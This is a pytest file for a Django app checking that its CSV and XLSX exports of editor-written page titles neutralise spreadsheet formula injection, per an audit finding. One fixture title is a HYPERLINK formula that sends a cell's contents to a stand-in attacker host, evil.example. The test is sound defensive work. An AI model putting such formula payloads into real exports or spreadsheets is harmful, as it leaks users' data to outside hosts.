"""Every export treatment_pages adds writes through its spreadsheet-safe writer (audit finding M2).

The "All ratings" listing, the Ratings report and the Clinical review report export
page titles an editor controls: in the CSV nothing a spreadsheet could run (read with
``,``, ``;`` or tab), every cell quoted; in the XLSX every title a text cell, as typed.
"""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from tests.apps.test_spreadsheet import spreadsheet_could_run
from tests.factories import UserFactory
from treatment_pages.ratings.voters import voter_key_for
from treatment_pages.ratings.votes import cast_vote

PEEL_TITLE = '=HYPERLINK("http://evil.example/?"&A1;"Click")'
# A full-width plus, and a ";" followed by a formula: live when opened with ";".
MESO_TITLE = "＋1+1; -2+3 (0123)"
EXPORTS = {
    "all ratings": "wagtailsnippets_treatment_pages_rating:list",
    "ratings report": "treatment_pages_ratingsummary_modeladmin_index",
    "clinical review": "treatment_pages_review_report",
}

pytestmark = pytest.mark.django_db


@pytest.fixture
def titled(mesotherapy, treatment_index):
    """Two rated articles whose titles an editor made into formulas."""
    peel = treatment_index.get_children().get(slug="chemical-peel").specific
    for page, title in ((peel, PEEL_TITLE), (mesotherapy, MESO_TITLE)):
        page.title = title
        page.save()
        cast_vote(page, voter_key_for(f"reader-{page.pk}"), 4)
    client = Client()
    client.force_login(UserFactory(username="export-admin", is_superuser=True, is_staff=True))
    return client


def download(client, url_name, fmt):
    response = client.get(reverse(url_name), {"export": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("export", EXPORTS)
def test_csv_export_holds_titles_as_text_whatever_the_separator(titled, export):
    raw = download(titled, EXPORTS[export], "csv")

    assert raw.startswith(b'\xef\xbb\xbf"')  # UTF-8 with BOM for Excel, every cell quoted
    text = raw.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert "'" + PEEL_TITLE in cells
    assert "'＋1+1;' -2+3 (0123)" in cells  # an apostrophe before each place a cell could start
    for delimiter in (",", ";", "\t"):
        read = [
            cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row
        ]
        assert [cell for cell in read if spreadsheet_could_run(cell)] == [], delimiter


@pytest.mark.parametrize("export", EXPORTS)
def test_xlsx_export_holds_titles_as_text_cells_exactly_as_typed(titled, export):
    sheet = load_workbook(io.BytesIO(download(titled, EXPORTS[export], "xlsx"))).active

    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    titles = [cell for cell in cells if cell.value in (PEEL_TITLE, MESO_TITLE)]
    assert {cell.value for cell in titles} == {PEEL_TITLE, MESO_TITLE}
    assert all(cell.data_type == "s" and cell.number_format == "@" for cell in titles)
    headings = [cell.value for cell in next(sheet.iter_rows())]
    assert all(isinstance(value, str) for value in headings)


def test_ratings_report_xlsx_keeps_counts_and_averages_as_numbers(titled):
    sheet = load_workbook(io.BytesIO(download(titled, EXPORTS["ratings report"], "xlsx"))).active

    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    by_title = {row[0]: row for row in rows[1:]}
    assert by_title[MESO_TITLE][1:4] == [4, 1, 0]  # average, ratings, 1 star: numbers a sheet can sum
